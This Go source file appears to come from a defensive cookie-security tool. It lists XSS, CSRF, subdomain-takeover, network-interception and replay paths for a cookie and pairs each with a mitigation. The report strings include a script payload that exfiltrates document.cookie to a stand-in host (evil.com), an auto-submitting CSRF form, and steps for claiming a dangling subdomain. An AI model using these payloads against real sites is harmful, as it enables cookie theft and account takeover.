// Package attack enumerates concrete attack paths against a cookie from its
// raw attributes. The rules are independent of the risk scorer's issue list so
// a simulation can run standalone; techniques are illustrative narratives for
// reports, not working payloads.
package attack

import (
	"fmt"
	"time"

	"github.com/CodeMonkeyCybersecurity/crumbs/pkg/cookie"
	"github.com/CodeMonkeyCybersecurity/crumbs/pkg/features"
	"github.com/CodeMonkeyCybersecurity/crumbs/pkg/types"
)

type PathType string

const (
	PathXSS       PathType = "XSS"
	PathCSRF      PathType = "CSRF"
	PathSubdomain PathType = "SUBDOMAIN"
	PathNetwork   PathType = "NETWORK"
	PathReplay    PathType = "REPLAY"
)

type Path struct {
	Type         PathType       `json:"type"`
	Name         string         `json:"name"`
	Severity     types.Severity `json:"severity"`
	Description  string         `json:"description"`
	Technique    string         `json:"technique"`
	Precondition string         `json:"precondition"`
}

// Fix pairs user-facing mitigation advice with the Set-Cookie change the site
// operator should make.
type Fix struct {
	Fix           string `json:"fix"`
	Impact        string `json:"impact"`
	Effort        string `json:"effort"`
	Code          string `json:"code"`
	SiteShouldFix string `json:"site_should_fix"`
}

type Simulation struct {
	Paths              []Path `json:"paths"`
	PathCount          int    `json:"path_count"`
	OverallRisk        string `json:"overall_risk"`
	Impact             string `json:"impact"`
	Fixes              []Fix  `json:"fixes"`
	AttackSurfaceScore int    `json:"attack_surface_score"`
}

// Simulator holds the clock used for replay-window computation.
type Simulator struct {
	now func() time.Time
}

func NewSimulator() *Simulator {
	return &Simulator{now: time.Now}
}

// Simulate evaluates each path rule against the cookie. The feature vector is
// optional; without it the subdomain-shared signal falls back to the wildcard
// check alone.
func (s *Simulator) Simulate(c cookie.Cookie, cookieType types.CookieType, v *features.Vector) Simulation {
	var (
		paths []Path
		fixes []Fix
	)

	isAuth := cookieType == types.TypeAuthentication
	name := c.Name

	if !c.HTTPOnly {
		severity := types.SeverityMedium
		consequence := "Cookie value could be exfiltrated."
		if isAuth {
			severity = types.SeverityCritical
			consequence = "This is an authentication cookie - stolen tokens allow full account takeover."
		}
		paths = append(paths, Path{
			Type:     PathXSS,
			Name:     "Cross-Site Scripting (Cookie Theft)",
			Severity: severity,
			Description: fmt.Sprintf(
				"An attacker who finds an XSS vulnerability can execute `document.cookie` to read %q. %s",
				name, consequence),
			Technique:    `Inject <script>fetch("https://evil.com?c="+document.cookie)</script> via XSS vector`,
			Precondition: "XSS vulnerability exists on the site",
		})
		fixes = append(fixes, Fix{
			Fix:           "Use a script-blocking extension",
			Impact:        "Reduces XSS risk by blocking inline scripts from untrusted sources",
			Effort:        "Low",
			Code:          "Install uBlock Origin or NoScript to limit JavaScript execution",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; HttpOnly", name),
		})
	}

	if c.SameSite.CrossSiteSendable() {
		severity := types.SeverityLow
		if isAuth {
			severity = types.SeverityHigh
		}
		sameSiteLabel := string(c.SameSite)
		if sameSiteLabel == "" {
			sameSiteLabel = "not set"
		}
		paths = append(paths, Path{
			Type:     PathCSRF,
			Name:     "Cross-Site Request Forgery",
			Severity: severity,
			Description: fmt.Sprintf(
				"Cookie %q is sent with cross-site requests (SameSite=%s). An attacker can craft a malicious page that triggers authenticated requests on behalf of the user.",
				name, sameSiteLabel),
			Technique: `Host a page with: <form action="https://target.com/transfer" method="POST">` +
				`<input type="hidden" name="amount" value="10000"></form>` +
				`<script>document.forms[0].submit()</script>`,
			Precondition: "User visits attacker-controlled page while logged in",
		})
		fixes = append(fixes, Fix{
			Fix:           "Avoid clicking untrusted links while logged in",
			Impact:        "CSRF requires you to visit a malicious page - staying cautious limits exposure",
			Effort:        "Low",
			Code:          "Log out of sensitive sites before browsing untrusted content",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; SameSite=Lax", name),
		})
	}

	subdomainShared := v != nil && v.Get("f_subdomain_shared") > 0
	if c.IsWildcardDomain() || (subdomainShared && isAuth) {
		severity := types.SeverityMedium
		consequence := "Cookie manipulation possible."
		if isAuth {
			severity = types.SeverityHigh
			consequence = "Auth token theft enables account takeover."
		}
		bare := c.BareDomain()
		paths = append(paths, Path{
			Type:     PathSubdomain,
			Name:     "Subdomain Takeover / Cookie Tossing",
			Severity: severity,
			Description: fmt.Sprintf(
				"Cookie %q is scoped to wildcard domain %q. If an attacker gains control of ANY subdomain (e.g., via dangling DNS, abandoned CNAME, or shared hosting), they can read or overwrite this cookie. %s",
				name, c.Domain, consequence),
			Technique: fmt.Sprintf(
				"1. Find unused subdomain of %s (e.g., old-staging.%s)\n2. Claim the subdomain via cloud provider\n3. Set up page that reads document.cookie or sets a malicious replacement",
				bare, bare),
			Precondition: fmt.Sprintf("Attacker controls a subdomain of %s", bare),
		})
		fixes = append(fixes, Fix{
			Fix:           "Clear cookies after sensitive sessions",
			Impact:        "Limits window for subdomain-based cookie theft",
			Effort:        "Low",
			Code:          "Use browser settings to clear cookies on exit, or clear manually after banking/sensitive logins",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; Domain=%s  (or omit Domain entirely)", name, bare),
		})
		if !c.HasHostPrefix() {
			fixes = append(fixes, Fix{
				Fix:           "Report to site security team",
				Impact:        "Wildcard auth cookies are a known risk - sites should use __Host- prefix",
				Effort:        "Medium",
				Code:          "Contact the site's security team or use their bug bounty program to report this finding",
				SiteShouldFix: fmt.Sprintf("Set-Cookie: __Host-%s=...; Secure; Path=/", name),
			})
		}
	}

	if !c.Secure {
		severity := types.SeverityLow
		consequence := "Cookie value exposed."
		if isAuth {
			severity = types.SeverityHigh
			consequence = "Authentication token theft allows session hijacking."
		}
		paths = append(paths, Path{
			Type:     PathNetwork,
			Name:     "Network Interception (Man-in-the-Middle)",
			Severity: severity,
			Description: fmt.Sprintf(
				"Cookie %q is transmitted over unencrypted HTTP. On public WiFi or compromised networks, an attacker can intercept the cookie using tools like Wireshark or mitmproxy. %s",
				name, consequence),
			Technique:    "ARP spoof + packet capture on same network, or rogue WiFi access point",
			Precondition: "User on shared/compromised network + any HTTP request to site",
		})
		fixes = append(fixes, Fix{
			Fix:           "Avoid this site on public WiFi or use a VPN",
			Impact:        "Encrypts your traffic so cookies cannot be intercepted on the network",
			Effort:        "Low",
			Code:          "Enable HTTPS-only mode in browser settings, or use a trusted VPN on public networks",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; Secure", name),
		})
	}

	if c.ExpirationDate != nil && isAuth {
		days := (*c.ExpirationDate - float64(s.now().Unix())) / 86400
		if days < 0 {
			days = 0
		}
		if days > 30 {
			wholeDays := int(days)
			paths = append(paths, Path{
				Type:     PathReplay,
				Name:     "Session Replay (Long-Lived Token)",
				Severity: types.SeverityMedium,
				Description: fmt.Sprintf(
					"Cookie %q expires in ~%d days. If stolen, the attacker has a %d-day window to replay the session token before it expires - even if the user changes their password.",
					name, wholeDays, wholeDays),
				Technique:    "Stolen cookie is replayed via browser extension or curl to maintain access",
				Precondition: "Cookie has already been stolen via one of the above methods",
			})
			fixes = append(fixes, Fix{
				Fix:           "Log out manually and clear cookies regularly",
				Impact:        "Invalidates the session token so it cannot be replayed even if stolen",
				Effort:        "Low",
				Code:          `Log out after each session; use browser "Clear cookies on exit" setting`,
				SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; Max-Age=86400  (1 day instead of %d)", name, wholeDays),
			})
		}
	}

	return Simulation{
		Paths:              paths,
		PathCount:          len(paths),
		OverallRisk:        overallRisk(isAuth, len(paths)),
		Impact:             summarizeImpact(paths, isAuth),
		Fixes:              dedupeFixes(fixes),
		AttackSurfaceScore: surfaceScore(len(paths)),
	}
}

func overallRisk(isAuth bool, pathCount int) string {
	switch {
	case isAuth && pathCount >= 2:
		return "CRITICAL - Multiple attack vectors can lead to account takeover"
	case isAuth && pathCount == 1:
		return "HIGH - Single attack vector could compromise authentication"
	case pathCount > 0:
		return "MODERATE - Attack paths exist but limited impact for non-auth cookie"
	default:
		return "LOW - No significant attack vectors identified"
	}
}

func summarizeImpact(paths []Path, isAuth bool) string {
	if len(paths) == 0 {
		return "No actionable attack vectors detected for this cookie."
	}

	has := make(map[PathType]bool, len(paths))
	for _, p := range paths {
		has[p.Type] = true
	}

	if isAuth {
		switch {
		case has[PathXSS] && has[PathCSRF]:
			return "Attacker can steal session via XSS and perform actions via CSRF - full account compromise possible."
		case has[PathXSS]:
			return "Attacker can steal authentication token via XSS - direct account takeover."
		case has[PathCSRF]:
			return "Attacker can perform authenticated actions on behalf of the user via CSRF."
		case has[PathNetwork]:
			return "Session token exposed to network interception - hijacking possible on insecure connections."
		case has[PathSubdomain]:
			return "Subdomain compromise can lead to cookie theft and session hijacking."
		}
	}

	return fmt.Sprintf("%d potential attack vector(s) identified. See individual paths for details.", len(paths))
}

func dedupeFixes(fixes []Fix) []Fix {
	seen := make(map[string]bool, len(fixes))
	unique := make([]Fix, 0, len(fixes))
	for _, f := range fixes {
		if !seen[f.Fix] {
			seen[f.Fix] = true
			unique = append(unique, f)
		}
	}
	return unique
}

func surfaceScore(pathCount int) int {
	score := pathCount * 25
	if score > 100 {
		return 100
	}
	return score
}
